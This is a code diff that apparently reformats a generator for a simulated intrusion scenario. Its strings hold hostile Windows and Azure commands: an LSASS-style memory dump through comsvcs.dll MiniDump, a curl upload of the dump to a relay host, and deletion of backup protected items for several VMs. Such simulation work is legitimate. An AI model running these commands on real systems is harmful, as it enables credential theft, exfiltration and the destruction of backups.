@@ -255,13 +255,10 @@ def _machine(make: Maker) -> None:
     shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
     script = "powershell -ExecutionPolicy Unrestricted -File script0.ps1"
     dump = (
-        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 "
+        '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 '
         "C:\\Windows\\Temp\\af.log full"
     )
-    upload = (
-        "\"C:\\Windows\\System32\\curl.exe\" -s -T C:\\Windows\\Temp\\af.log "
-        f"https://{RELAY_ADDRESS}/u/{SQL.name}"
-    )
+    upload = f'"C:\\Windows\\System32\\curl.exe" -s -T C:\\Windows\\Temp\\af.log https://{RELAY_ADDRESS}/u/{SQL.name}'
     steps = (
         (98.6, shell, script, extension, "RunCommandExtension.exe enable"),
         (98.7, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\System32\\whoami.exe\" /all", shell, script),
@@ -296,7 +293,10 @@ def _destruction(make: Maker) -> None:
     vault = f"{finance}/Microsoft.RecoveryServices/vaults/af-backup"
     item = f"{vault}/backupFabrics/Azure/protectionContainers/iaas-{{0}}/protectedItems/vm-{{0}}"
     deletions = [
-        ("Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete", item.format(name))
+        (
+            "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete",
+            item.format(name),
+        )
         for name in ("af-sql01", "af-web01", "af-app01")
     ]
     deletions += [
